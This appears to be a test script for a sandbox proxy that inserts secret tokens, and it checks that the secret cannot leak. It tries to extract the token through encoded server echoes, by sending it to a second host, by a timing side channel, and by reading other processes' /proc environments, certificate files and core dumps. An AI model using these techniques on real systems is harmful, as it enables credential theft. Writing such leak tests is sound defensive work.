# attack: gets a secret that the proxy inserts: by a server that returns it in many ways, by sending
#     its placeholder elsewhere, and from the machine
# rows: 144 145 146 147 148 149 150 151 152 153 154 155 156 157 158 159 160 161 162 163 164 165 166
#     167 168 169 170 171 172 173 174
# expect: INERT(hidden|no|closed|302|400|403|500|502)
# isolation: full light
# settings: --allow-net 127.0.0.2:TELLER --allow-net 127.0.0.3:TELLER --net-ca PLACE/cert.pem
#     --secret "TOKEN=@PLACE/token for 127.0.0.2:TELLER"
# unconfined: unsafe
import base64
import html
import http.client
import ssl
import urllib.parse

WAYS = {
    "144 as it is": "plain", "145 in fields": "header", "146 in a redirect": "location",
    "147 in the status line": "reason", "148 in single bytes": "bytes",
    "149 until the end": "close", "150 base64": "base64-0", "150 base64, off by one": "base64-1",
    "150 base64, off by two": "base64-2", "151 base64 of URLs": "base64url", "152 hex": "hex",
    "152 HEX": "HEX", "153 percent": "percent", "154 JSON": "json", "155 HTML": "html",
    "156 gzip": "gzip", "157 deflate": "deflate", "157 br": "br", "158 a coding": "coding",
    "159 early hints": "hints", "160 a trailer": "trailer", "161 an extension": "extension",
}


def has_it(data):
    """Whether half of the value is there, in a form that anybody would think of."""
    value = ("sk-" + HOST["key"]).encode()
    half = value[3:3 + len(value) // 2]
    texts = [data, urllib.parse.unquote_to_bytes(data), html.unescape(data.decode("latin-1"))
             .encode("latin-1", "replace")]
    for piece in data.replace(b"[", b" ").replace(b"]", b" ").split():
        for offset in range(4):
            try:
                texts.append(base64.b64decode(piece[offset:] + b"===", altchars=b"-_"))
            except ValueError:
                pass
        try:
            texts.append(bytes.fromhex(piece.decode()))
        except ValueError:
            pass
    return any(half in text for text in texts)


def tell(path, method="GET", body=None, bearer=None, host="127.0.0.2", raw=None, **fields):
    """Everything that comes back on one connection, or with `raw`, to those bytes."""
    port = HOST["teller"]
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    where = b"%s:%d" % (host.encode(), port)
    s.sendall(b"CONNECT " + where + b" HTTP/1.1\r\nHost: " + where + b"\r\n\r\n")
    s.recv(1000)
    if host == "127.0.0.2":
        s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
    reply = b""
    with s:
        lines = ["%s %s HTTP/1.1" % (method, path), "Host: %s" % where.decode(),
                 "Connection: close", "Authorization: Bearer " + (bearer or os.environ["TOKEN"]),
                 *("%s: %s" % (name.replace("_", "-"), text) for name, text in fields.items())]
        if body is not None:
            lines.append("Content-Length: %d" % len(body))
        s.sendall(raw or "\r\n".join(lines + ["", ""]).encode() + (body or b""))
        try:
            while data := s.recv(65536):
                reply += data
        except OSError:
            pass
    return reply


def word(reply):
    if has_it(reply):
        return "leaked"
    head, _, rest = reply.partition(b"\r\n\r\n")
    if rest in (b"yes", b"no"):
        return rest.decode()
    status = reply[9:12].decode()
    return "hidden" if status in ("200", "103") else status or "closed"


def early(guess):
    """How many bytes of an answer with this guess have come before the server goes on."""
    port = HOST["teller"]
    made = http.client.HTTPSConnection("127.0.0.1", 3128, context=ssl.create_default_context())
    made.set_tunnel("127.0.0.2", port)
    made.request("POST", "/drip", b"x" * 200 + guess,
                 {"Authorization": "Bearer " + os.environ["TOKEN"]})
    answer = made.getresponse()
    time.sleep(0.2)
    made.sock.setblocking(False)
    count = 0
    try:
        while piece := answer.read1(65536):
            count += len(piece)
    except (OSError, ValueError):
        pass
    made.close()
    return count


def of_processes():
    """The environments, arguments and memory maps that it can see."""
    value = b"sk-" + HOST["key"].encode()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, name), "rb") as f:
                    if value in f.read():
                        return "leaked"
            except OSError:
                pass
    return "hidden"


def of_files():
    """The certificates that it is given, without keys."""
    with open(os.environ["SSL_CERT_FILE"], "rb") as f:
        data = f.read()
    return "leaked" if b"PRIVATE" in data or has_it(data) else "hidden"


def of_a_core():
    child = os.fork()
    if child == 0:
        os.chdir("/tmp")
        os.abort()
    status = os.waitpid(child, 0)[1]
    return "leaked" if os.WCOREDUMP(status) else "hidden"


def of_a_fork():
    """What a child of the guest's gets back."""
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.write(write_end, word(tell("/plain")).encode())
        os._exit(0)
    os.close(write_end)
    output = os.read(read_end, 100).decode()
    os.close(read_end)
    os.wait()
    return output


def attack():
    token, port = os.environ["TOKEN"], HOST["teller"]
    saw = {name: word(tell("/" + path)) for name, path in WAYS.items()}
    halves = tell("/range", Range="bytes=0-9") + tell("/range", Range="bytes=10-99")
    saw["162 by halves"] = "leaked" if has_it(halves.replace(b"\r\n", b"")) else "hidden"
    saw["163 compressed on request"] = word(tell("/gzip", Accept_Encoding="gzip"))
    saw["164 of HEAD"] = word(tell("/header", method="HEAD"))
    other = {"bearer": "none"}
    for name, options in (
            ("165 in another field", {"X_Key": token}), ("165 in a cookie", {"Cookie": token}),
            ("165 as Basic", {"Proxy_Authorization": "Basic " + token}),
            ("166 in a body", {"method": "POST", "body": token.encode()})):
        saw[name] = word(tell("/got", **{**other, **options}))
    saw["166 in the query"] = word(tell("/got?key=" + token, **other))
    saw["167 at another host"] = word(tell("/got", host="127.0.0.3"))
    saw["167 at another host, with its name"] = word(tell(
        "/got", host="127.0.0.3", X_Host="127.0.0.2:%d" % port))
    where = b"127.0.0.2:%d" % port
    with socket.create_connection(("127.0.0.1", 3128), 10) as s:
        s.sendall(b"GET http://" + where + b"/got HTTP/1.1\r\nHost: " + where
                  + b"\r\nAuthorization: Bearer " + token.encode() + b"\r\n\r\n")
        saw["168 without TLS"] = word(s.recv(1000))
    saw["169 within a longer text"] = word(tell("/got", bearer=token + "x"))
    # A guess that begins well must look like one that does not.
    begin = b"sk-" + HOST["key"].encode()[:-1]
    saw["170 by a guess"] = "hidden" if early(begin) == early(b"#" * len(begin)) else "leaked"
    saw["171 of processes"] = of_processes()
    saw["172 of files"] = of_files()
    saw["173 of a core"] = of_a_core()
    saw["174 of a fork"] = of_a_fork()
    return saw


def twin():
    """The server gets the value, and what it returns otherwise passes."""
    if HOST["level"] is None:
        with socket.create_connection(("127.0.0.2", HOST["teller"]), 5):
            return "success"
    got = word(tell("/got"))
    reply = tell("/plain", bearer="something-else")
    parts = tell("/range", bearer="0123456789", host="127.0.0.3", Range="bytes=2-3")
    return "success" if got == "yes" and reply.endswith(b"[something-else]") and \
        parts.endswith(b"\r\n\r\n23") else str((got, reply, parts))
